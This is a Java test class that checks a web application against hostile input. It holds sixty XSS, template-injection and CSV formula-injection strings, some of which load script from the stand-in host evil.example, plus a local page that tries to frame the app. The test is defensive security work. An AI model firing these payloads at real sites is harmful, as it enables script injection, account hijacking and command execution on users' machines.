package roster;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.quarkus.test.junit.QuarkusTest;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jsoup.nodes.Comment;
import org.jsoup.nodes.DataNode;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.select.NodeTraversor;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;

/**
 * Sixty texts that want to be more than text, in every place that takes one, by the forms that people have and by the
 * provider's claims; and then every page that leads from there, and what each field on them makes of the texts. What
 * mails make of such texts, HostileMailTest looks at.
 */
@QuarkusTest
class HostileTextTest extends RosterTest {
    private static final List<String> TEXTS = List.of(
            "<script>pwned()</script>",
            "<SCRIPT SRC=//evil.example/pwned.js></SCRIPT>",
            "\"><script>pwned()</script>",
            "'><script>pwned()</script>",
            "</title><script>pwned()</script>",
            "</textarea><script>pwned()</script>",
            "</style><script>pwned()</script>",
            "</option></select><img src=x onerror=pwned()>",
            "--><img src=x onerror=pwned()>",
            "<!--<img src=\"--><img src=x onerror=pwned()>",
            "<img src=x onerror=pwned()>",
            "<img/src=x/onerror=pwned()>",
            "<svg onload=pwned()>",
            "<svg><script>pwned()</script></svg>",
            "<svg><animate onbegin=pwned() attributeName=x>",
            "<math><mtext><img src=x onerror=pwned()>",
            "<iframe srcdoc=\"<script>pwned()</script>\">",
            "<iframe src=javascript:pwned()>",
            "<object data=javascript:pwned()>",
            "<embed src=javascript:pwned()>",
            "<a href=javascript:pwned()>x</a>",
            "javascript:pwned()",
            "JaVaScRiPt:pwned()//",
            "java&#115;cript:pwned()",
            "data:text/html,<script>pwned()</script>",
            "vbscript:pwned",
            "\" onmouseover=\"pwned()",
            "' onfocus='pwned()' autofocus='",
            "\" autofocus onfocus=\"pwned()\" x=\"",
            "` onclick=`pwned()",
            "\" style=\"background:url(//evil.example/pwned)",
            "\"/><base href=\"//evil.example/pwned\">",
            "<meta http-equiv=refresh content=0;url=//evil.example/pwned>",
            "<link rel=stylesheet href=//evil.example/pwned.css>",
            "<style>@import'//evil.example/pwned.css'</style>",
            "<form action=//evil.example/pwned><button>x",
            "<input type=image src=x onerror=pwned()>",
            "<body onload=pwned()>",
            "<details open ontoggle=pwned()>",
            "<video><source onerror=pwned()></video>",
            "<template><img src=x onerror=pwned()></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
            "<div hx-get=/pwned hx-trigger=load>",
            "<div hx-on:click=pwned() data-hx-on=pwned()>",
            "<button formaction=javascript:pwned()>x",
            "&lt;img src=x onerror=pwned()&gt;",
            "&#60;img src=x onerror=pwned()&#62;",
            "%3Cscript%3Epwned()%3C/script%3E",
            "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
            "{pwned}",
            "{inject:signedIn.name}{pwned}",
            "{#if true}pwned{/if}",
            "{#include layout}pwned{/include}",
            "{{7*7}}pwned",
            "${7*7}pwned #{7*7}",
            "{! pwned !}",
            "{|<b>pwned</b>|}",
            "=HYPERLINK(\"//evil.example/pwned\",\"x\")",
            "+cmd|' /C pwned'!A0",
            "@SUM(1+1)*pwned");

    /** The organization's name, which is on each of its pages. */
    private static final String NAME = "\"><img src=x onerror=pwned()>{pwned}";

    /** Attributes that show text, and nothing else. */
    private static final Set<String> WORDS = Set.of("value", "title", "aria-label", "placeholder", "alt", "content");

    /** So many pages of one kind are enough, for each shows another of the texts. */
    private static final int EACH = 6;

    /** What somebody types into, in a form. */
    private static final String TYPED =
            "form input[name]:not([type=hidden], [type=radio], [type=checkbox], [type=file]), form textarea[name]";

    /** The same in a template, with its name. */
    private static final Pattern IN_TEMPLATE = Pattern.compile(
            "<(?:input|textarea)(?![^>]* type=\"(?:hidden|radio|checkbox|file)\")[^>]* name=\"(\\w+)\"");

    /** So many texts are enough for a field that takes none of them; each such field gets others. */
    private static final int SOME = 6;

    private final Set<String> wrong = new TreeSet<>();
    private final Set<String> filled = new TreeSet<>();
    private final Map<String, Typed> fields = new TreeMap<>();
    private final StringBuilder shown = new StringBuilder();
    private String slug;
    private Visitor ada;
    private int turn;

    /** A field as somebody met it: on the page at this path, in the form that leads there. */
    private record Typed(Visitor visitor, String path, String form, String name) {
        private String key() {
            return kind(form) + " " + name;
        }

        private Element in(Document page) {
            return page.select("form").stream()
                    .filter(f -> form.equals(action(f, path))
                            && !f.select(named(name)).isEmpty())
                    .findFirst()
                    .orElseThrow(() -> new AssertionError("No field " + key() + " at " + path));
        }
    }

    @AfterAll
    static void closed() {
        Browser.stop();
    }

    @Test
    void sixty_texts_stay_text_on_every_page_and_a_real_browser_runs_none() throws IOException {
        assertThat(TEXTS).hasSize(60).allMatch(text -> text.contains("pwned"));
        fill();
        for (var text : TEXTS) {
            type(ada, "/organizations/" + slug + "/settings", "name", text, "slug", slug, "description", text);
            look(ada, "/organizations/" + slug);
        }
        type(ada, "/organizations/" + slug + "/settings", "name", NAME, "slug", slug, "description", chunks().get(0));
        var dora = signedIn("Dora");
        var number = walk(ada, "/organizations/" + slug) + walk(dora, "/");
        System.out.println("Pages with hostile texts, looked at: " + number);
        assertThat(wrong).isEmpty();
        assertThat(number).isGreaterThan(100);
        assertThat(TEXTS).as("texts that are shown as they are").allMatch(text -> shown.indexOf(text) >= 0);
        for (var list : List.of("members", "invitations", "projects", "audit")) file(list);
        if (Browser.canRun()) browse();
        assertThat(names()).as("the names of all fields").hasSizeGreaterThan(15);
        List.copyOf(fields.values()).forEach(this::fill);
        System.out.println("Fields that were met: " + fields.size() + "; that took hostile texts: " + filled.size());
        assertThat(wrong).isEmpty();
        assertThat(names()).as("fields of templates that nobody met").isSubsetOf(met());
    }

    /** Types texts into a field, which comes back with them; if it takes one, then all the others, too. */
    private void fill(Typed field) {
        var key = field.key();
        if (filled.contains(key)) return;
        var form = field.in(look(field.visitor, field.path));
        var lines = !form.select("textarea[name=" + field.name + "]").isEmpty();
        var texts = lines ? chunks() : TEXTS;
        var others = whatElse(form);
        for (var i = 0; i < (lines || filled.contains(key) ? texts.size() : SOME); i++) {
            var text = texts.get(lines || filled.contains(key) ? i : turn++ % texts.size());
            others.put(field.name, text);
            var answer = form.attr("method").equals("post")
                    ? field.visitor.send(form, others)
                    : field.visitor.get(field.form + "?" + Visitor.encoded(Map.of(field.name, text)));
            if (answer.status() == 303) {
                if (filled.add(key)) i = -1;
                if (lines || i < 0)
                    look(field.visitor, answer.header("location").replaceFirst("https?://[^/]+", ""));
                form = field.in(look(field.visitor, field.path));
                continue;
            }
            look(key, answer);
            if (answer.status() != 422 && answer.status() != 200) wrong.add(key + ": " + answer.status());
            if (answer.page().select(named(field.name)).stream().noneMatch(e -> value(e).equalsIgnoreCase(text)))
                wrong.add(key + " has forgotten " + text);
        }
    }

    /** What the form asks for besides, so that it is about the text alone whether it is taken. */
    private static Map<String, String> whatElse(Element form) {
        var others = new HashMap<String, String>();
        for (var other : form.select("input[required], textarea[required]")) {
            var name = other.attr("name");
            var radio = other.attr("type").equals("radio");
            if (radio && form.select("input[name=" + name + "][checked]").isEmpty()) others.put(name, other.val());
            else if (!radio && value(other).isEmpty()) others.put(name, "Rain");
        }
        return others;
    }

    /** Where the form of the page at this path leads. */
    private static String action(Element form, String path) {
        return form.attr("action").isEmpty() ? path.replaceFirst("\\?.*", "") : form.attr("action");
    }

    private static String named(String name) {
        return "input[name=" + name + "], textarea[name=" + name + "]";
    }

    private static String value(Element field) {
        return field.tagName().equals("textarea") ? field.wholeText().strip() : field.val();
    }

    private Set<String> met() {
        return Stream.concat(fields.keySet().stream(), filled.stream())
                .map(key -> key.replaceFirst(".* ", ""))
                .collect(Collectors.toSet());
    }

    /** The names of all fields in which somebody types, as the templates have them. */
    private static Set<String> names() throws IOException {
        try (var files = Files.walk(Path.of("src/main/resources/templates"))) {
            var names = new TreeSet<String>();
            for (var file : files.filter(f -> f.toString().matches("(?!.*/dev/).*\\.html"))
                    .toList()) {
                IN_TEMPLATE.matcher(Files.readString(file)).results().forEach(found -> names.add(found.group(1)));
            }
            return names;
        }
    }

    private void browse() {
        var window = Browser.open(true).as(ada);
        var page = window.page();
        var said = new ArrayList<String>();
        page.addInitScript("window.pwned = () => { window.wasPwned = true; console.log('pwned'); }");
        page.onConsoleMessage(message -> said.add(page.url() + ": " + message.text()));
        page.onPageError(said::add);
        page.onDialog(dialog -> {
            said.add("a dialog");
            dialog.dismiss();
        });
        page.onRequest(request -> {
            if (!request.url().startsWith(Visitor.base())) said.add(request.url());
        });
        for (var path : List.of(
                "",
                "/members",
                "/invitations",
                "/projects",
                "/audit",
                "/requests",
                "/batches",
                "/invitations/new",
                "/settings")) {
            page.navigate(Visitor.base() + "/organizations/" + slug + path);
            page.waitForLoadState();
            assertThat(page.content()).as(path).contains("pwned");
            // Whatever listens to a pointer or to the keyboard is asked, too.
            page.evaluate(
                    "document.querySelectorAll('main *').forEach(e => ['mouseover', 'focus', 'toggle'].forEach(n => e.dispatchEvent(new Event(n))))");
            assertThat(page.evaluate("window.wasPwned === true")).as(path).isEqualTo(false);
        }
        window.close();
        assertThat(said).isEmpty();
    }

    @Test
    @EnabledIf("roster.Browser#canRun")
    void a_page_of_another_origin_frames_nothing() throws Exception {
        ada = signedIn("Ada");
        slug = found(ada, "single-owner");
        invite(ada, slug, "Dora", "member");
        var dora = signedIn("Dora");
        var members = "/organizations/" + slug + "/members";
        var accept = "/invitations/accept?invitation=" + invitation(slug, "Dora");
        assertThat(ada.get(members).text()).contains("Org " + slug);
        assertThat(dora.get(accept).text()).contains("Org " + slug);
        var frames = """
                <title>Evil</title><iframe src="%1$s"></iframe><object data="%1$s"></object><embed src="%1$s">""";
        var pages = Map.of("/members", Visitor.base() + members, "/accept", Visitor.base() + accept);
        var evil = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        evil.createContext("/", exchange -> {
            var body = frames.formatted(pages.get(exchange.getRequestURI().getPath()))
                    .getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().set("Content-Type", "text/html");
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        evil.start();
        try {
            for (var who : Map.of("/members", ada, "/accept", dora).entrySet()) {
                var window = Browser.open(true).as(who.getValue());
                var page = window.page();
                page.navigate("http://localhost:" + evil.getAddress().getPort() + who.getKey());
                page.waitForLoadState();
                assertThat(page.title()).isEqualTo("Evil");
                assertThat(page.frames()).as("frames").hasSizeGreaterThan(1);
                for (var frame : page.frames()) assertThat(frame.content()).doesNotContain("Org " + slug, "Sign out");
                window.close();
            }
        } finally {
            evil.stop(0);
        }
    }

    /** An organization of Ada's with the texts wherever a form or the provider takes one. */
    private void fill() {
        ada = signedIn("Ada");
        slug = found(ada, "single-owner");
        var home = "/organizations/" + slug;
        var ben = join(ada, slug, "Ben", "admin");
        for (var i = 0; i < TEXTS.size(); i++) {
            var text = TEXTS.get(i);
            Crowd.join(slug, "member", text, text, i + address("Member"));
            type(ada, home + "/projects", "name", text, "slug", "p-" + i, "description", text, "tags", "t" + i);
            var inviter = i % 2 == 0 ? ada : ben;
            type(inviter, home + "/invitations", "emails", i + address("Guest"), "role", "member", "message", text);
        }
        invite(ada, slug, "Dora", "member", "p-0", "project-read");
        type(ada, home + "/batches", "rows", String.join("\n", TEXTS), "role", "member");
        sqlUpdate("update organization set takes_requests = true where slug = ?1", slug);
        var some = chunks();
        for (var i = 0; i < 3; i++) {
            invite(ada, slug, "No" + i, "member");
            var no = signedIn("No" + i);
            var declined = invitation(slug, "No" + i).toString();
            type(no, "/invitations/decline", "invitation", declined, "reason", some.get(i));
            type(signedIn("Nemo" + i), "/requests", "slug", slug, "message", some.get(i + 3));
        }
    }

    /** Sends a form that takes all that is typed, and notes which fields have taken a text. */
    private void type(Visitor visitor, String path, String... typed) {
        done(visitor.post(path, typed));
        for (var i = 0; i < typed.length; i += 2)
            if (typed[i + 1].contains("pwned")) filled.add(kind(path) + " " + typed[i]);
    }

    /** All the texts, in six parts. */
    private static List<String> chunks() {
        var chunks = new ArrayList<String>();
        for (var i = 0; i < 60; i += 10) chunks.add(String.join("\n", TEXTS.subList(i, i + 10)));
        return chunks;
    }

    /** Follows every link within the program, but of one kind of page only some; answers how many pages there were. */
    private int walk(Visitor visitor, String start) {
        var next = new ArrayDeque<>(List.of(start));
        var known = new HashSet<>(next);
        var kinds = new HashMap<String, Integer>();
        var number = 0;
        while (!next.isEmpty()) {
            var page = look(visitor, next.poll());
            number++;
            for (var link : page.select("a[href]").eachAttr("href")) {
                var path = link.replaceFirst("#.*", "");
                if (!path.startsWith("/") || path.startsWith("/brands/") || !known.add(path)) continue;
                if (kinds.merge(kind(path), 1, Integer::sum) <= EACH) next.add(path);
            }
        }
        return number;
    }

    /** What paths have in common that lead to the same of other things. */
    private static String kind(String path) {
        return path.replaceAll("[0-9a-f]{8}-[0-9a-f-]{27}", "*")
                .replaceAll("/p-\\d+", "/*")
                .replaceAll("=[^&]*", "=");
    }

    /** Looks at the page, and notes the fields that are there to be typed into. */
    private Document look(Visitor visitor, String path) {
        var page = look(path, visitor.open(path));
        for (var field : page.select(TYPED)) {
            var typed = new Typed(visitor, path, action(field.closest("form"), path), field.attr("name"));
            fields.putIfAbsent(typed.key(), typed);
        }
        return page;
    }

    /** Looks for anything on the page that a text has become, but text. */
    private Document look(String path, Visitor.Answer answer) {
        var type = answer.header("content-type");
        if (answer.status() >= 500) wrong.add(path + ": " + answer.status());
        if (!type.startsWith("text/html")) return new Document("");
        var page = answer.page();
        NodeTraversor.traverse(
                (node, depth) -> {
                    if (node instanceof Comment || node instanceof DataNode) {
                        if (node.outerHtml().contains("pwned")) wrong.add(path + ": " + node.outerHtml());
                    }
                },
                page);
        for (var element : page.getAllElements()) {
            if (element.tagName().matches("script|link|base|meta|img|form|button|input")) {
                var outside = element.attributes().asList().stream()
                        .filter(a -> a.getKey().matches("src|href|action|formaction"))
                        .anyMatch(a -> !a.getValue().matches("/[^/].*|/|\\?.*|#.*|"));
                if (outside) wrong.add(path + ": " + element.outerHtml());
            }
            if (element.tagName().matches("svg|math|iframe|object|embed|style|template|video|base|font|marquee")
                    && element.outerHtml().contains("pwned")) wrong.add(path + ": " + element.tagName());
            if (element.tagName().contains("pwned")) wrong.add(path + ": " + element.tagName());
            for (var attribute : element.attributes()) {
                var name = attribute.getKey();
                var value = attribute.getValue();
                if (name.startsWith("on") || name.equals("style") || name.equals("srcdoc") || name.equals("http-equiv"))
                    wrong.add(path + ": the attribute " + name);
                if (name.contains("pwned") || name.matches(".*[\"'<>`{].*"))
                    wrong.add(path + ": the attribute " + name);
                if (value.contains("pwned")
                        && !WORDS.contains(name)
                        && !(name.matches("href|action") && value.matches("[/?].*")))
                    wrong.add(path + ": " + name + "=" + value);
                shown.append(WORDS.contains(name) ? value : "").append('\n');
            }
        }
        shown.append(page.wholeText()).append('\n');
        return page;
    }

    /** In a file, no cell begins as a formula does. */
    private void file(String list) {
        var file = ada.get("/organizations/" + slug + "/" + list + "?format=csv");
        assertThat(file.status()).as(list).isEqualTo(200);
        assertThat(file.header("content-type")).startsWith("text/csv");
        assertThat(file.header("content-disposition")).startsWith("attachment");
        var formulas = file.body()
                .lines()
                .filter(line -> line.matches("(.*,)?\"?[=+@].*pwned.*"))
                .collect(Collectors.toList());
        assertThat(formulas).as(list).isEmpty();
    }

    private static void done(Visitor.Answer answer) {
        if (answer.status() != 303) throw new AssertionError(answer.address() + ": " + answer.status() + answer.text());
    }
}
